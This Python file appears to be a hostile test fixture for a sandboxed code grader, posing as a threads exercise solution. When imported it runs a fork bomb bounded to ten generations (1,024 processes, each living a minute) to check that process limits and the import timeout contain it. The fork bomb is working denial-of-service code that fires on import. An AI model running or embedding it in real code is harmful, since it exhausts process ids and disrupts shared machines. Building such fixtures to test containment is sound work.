"""Fork bomb at import: every process forks again, and again.

poses as: threads/t01_start_join
sandbox: bwrap user none
earns: error
says: processes running at once | did not finish importing

Without a process limit the machine runs out of process ids. Bounded so that
an uncontained run still ends by itself: ten generations (1,024 processes),
each gone after a minute.

Its attack runs at the top level of the file: whichever stops it first, the limits or
the import's 2 s stall (graders/judge/loader.py), it is contained the same way.
"""

import os
import time

GENERATIONS = 10
LIFETIME = 60.0


def _bomb() -> None:
    forked = False
    for _ in range(GENERATIONS):
        try:
            if os.fork() == 0:
                forked = True
        except OSError:
            break
    time.sleep(LIFETIME)
    if forked:
        os._exit(0)


_bomb()


def run_all(tasks):
    return [func(*args) for func, args in tasks]
